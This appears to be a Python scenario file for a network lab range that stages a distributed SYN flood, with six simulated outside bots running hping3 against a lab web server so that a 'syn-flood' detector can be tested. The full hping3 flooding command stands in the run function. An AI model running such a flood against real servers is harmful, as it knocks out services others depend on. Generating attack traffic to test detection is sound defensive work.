"""A SYN flood from several machines with their own addresses."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    bots = [net.outside(f"bot{number}") for number in range(1, 7)]
    web = net.web()
    net.everyday()
    with net.attack(
        "syn-flood",
        by=bots,
        victims=[web],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and dst net 198.51.100.0/24",
    ):
        for bot in bots[1:]:
            net.start(bot, *f"hping3 -q -S -p 80 -i u16000 -c 300 {web.ip}".split())
        net.tool(bots[0], *f"hping3 -q -S -p 80 -i u16000 -c 300 {web.ip}".split())
        net.quiet(1)
    net.quiet(3)


SCENARIO = Scenario(
    name="syn-flood-distributed",
    about="Six machines outside send 60 SYNs a second each to a web server that others use meanwhile.",
    detectors=("syn-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
